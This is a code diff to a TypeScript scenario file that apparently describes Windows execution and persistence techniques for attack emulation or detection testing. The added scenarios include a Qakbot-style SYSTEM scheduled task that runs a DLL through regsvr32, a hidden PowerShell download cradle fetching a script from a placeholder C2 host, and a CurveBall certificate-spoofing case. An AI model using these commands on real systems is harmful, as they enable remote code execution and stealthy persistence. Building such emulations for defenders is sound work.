@@ -2,6 +2,7 @@ import { t, v } from "../dsl";
 
 const WORD = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE";
 const EXCEL = "C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE";
+const EDGE = "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe";
 
 /** Execution: interpreters, WMI, services and user execution as real intrusions chain them. */
 export const execution = [
@@ -50,21 +51,27 @@ export const execution = [
     "Scheduled task/job",
     "schtasks /create of a task running a payload, the commonest Windows scheduling persistence.",
     [
-      v("schtasks", [
-        {
-          cmd: 'schtasks /create /tn "{{name}}" /tr "{{appdata}}\\{{name}}.exe" /sc onlogon /rl highest /f',
-          then: [
-            {
-              id: "t",
-              kind: "task.create",
-              name: "\\{{name}}",
-              command: "{{appdata}}\\{{name}}.exe",
-              trigger: "logon",
-            },
-          ],
-        },
-      ]),
-      v("at", [{ cmd: "at 23:30 /every:M,T,W,Th,F {{tools}}\\{{name}}.bat" }], { elevated: true }),
+      // Qakbot's persistence: a one-shot SYSTEM task that re-runs the DLL with regsvr32 minutes later.
+      v(
+        "qakbot-regsvr32",
+        [
+          {
+            cmd: 'schtasks.exe /Create /RU "NT AUTHORITY\\SYSTEM" /tn {{$task}} /tr "regsvr32.exe -s \\"{{appdata}}\\{{rand}}.dll\\"" /SC ONCE /Z /ST 18:15 /ET 18:27',
+            then: [
+              {
+                id: "t",
+                kind: "task.create",
+                name: "\\{{$task}}",
+                command: "regsvr32.exe",
+                arguments: '-s "{{appdata}}\\{{rand}}.dll"',
+                trigger: "once",
+                runAs: "@system",
+              },
+            ],
+          },
+        ],
+        { elevated: true, vars: { task: "{{rand2}}" } },
+      ),
       v(
         "register-scheduledtask",
         [
@@ -83,6 +90,20 @@ export const execution = [
         ],
         { shell: "ps" },
       ),
+      v("schtasks", [
+        {
+          cmd: 'schtasks /create /tn "{{name}}" /tr "{{appdata}}\\{{name}}.exe" /sc onlogon /rl highest /f',
+          then: [
+            {
+              id: "t",
+              kind: "task.create",
+              name: "\\{{name}}",
+              command: "{{appdata}}\\{{name}}.exe",
+              trigger: "logon",
+            },
+          ],
+        },
+      ]),
     ],
   ),
   t(
@@ -142,7 +163,18 @@ export const execution = [
     "Command and scripting interpreter",
     "An interpreter started by a document or by the operator to run a staged script.",
     [
-      v("cmd-bat", [{ cmd: "cmd.exe /c {{tmp}}\\{{rand}}.bat", parent: "@explorer" }], { shell: "none" }),
+      // A shortcut lure (Emotet/IcedID era) starting a hidden, encoded PowerShell download cradle.
+      v(
+        "lnk-ps-cradle",
+        [
+          {
+            cmd: "powershell.exe -nop -w hidden -c \"IEX (New-Object System.Net.WebClient).DownloadString('http://{{c2}}/{{rand}}')\"",
+            parent: "@explorer",
+            net: [["{{c2}}", 80]],
+          },
+        ],
+        { shell: "none" },
+      ),
       v(
         "ps-file",
         [{ cmd: "powershell.exe -ExecutionPolicy Bypass -File {{tmp}}\\{{rand}}.ps1", parent: "@explorer" }],
@@ -342,6 +374,30 @@ export const execution = [
         ],
         { shell: "none" },
       ),
+      // The PDQ runner service stages the pushed payload outside the allowed paths; a Software Restriction
+      // Policy (default level Disallowed, %WINDIR% and %ProgramFiles% unrestricted) refuses to start it.
+      v(
+        "pdq-srp-blocked",
+        [
+          {
+            cmd: "C:\\Windows\\AdminArsenal\\PDQDeployRunner\\service-1\\PDQDeployRunner-1.exe",
+            as: "runner",
+            host: "@workstation",
+            parent: "@services",
+            user: "@system",
+            files: ["C:\\ProgramData\\{{name}}\\{{name}}.exe"],
+            then: [
+              {
+                id: "srp",
+                kind: "srp.block",
+                path: "C:\\ProgramData\\{{name}}\\{{name}}.exe",
+                rule: "default",
+              },
+            ],
+          },
+        ],
+        { shell: "none" },
+      ),
     ],
   ),
   t(
@@ -389,6 +445,31 @@ export const execution = [
           parent: "@svchost:DcomLaunch",
         },
         { cmd: "cmd.exe /c {{appdata}}\\{{rand}}.exe", parent: "eq" },
+      ],
+      { shell: "none" },
+    ),
+    // CurveBall (CVE-2020-0601) man-in-the-middle: a site with a spoofed ECC chain serves the exploit page;
+    // on a patched host crypt32 in the browser refuses the chain and reports it through CveEventWrite.
+    v(
+      "curveball-tls",
+      [
+        {
+          cmd: `"${EDGE}" --single-argument https://update.{{c2}}/`,
+          as: "edge",
+          parent: "@explorer",
+          dns: ["update.{{c2}}"],
+          net: [["update.{{c2}}", 443]],
+          then: [
+            {
+              id: "cve",
+              kind: "cve.audit",
+              cve: "[CVE-2020-0601] cert validation",
+              details:
+                "CA: <USERTrust ECC Certification Authority> sha1: {{hex40}} para: 06052B81040022 otherPara: " +
+                "30820157020101303C06072A8648CE3D0101023100FFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFEFFFFFFFF0000000000000000FFFFFFFF",
+            },
+          ],
+        },
       ],
       { shell: "none" },
     ),
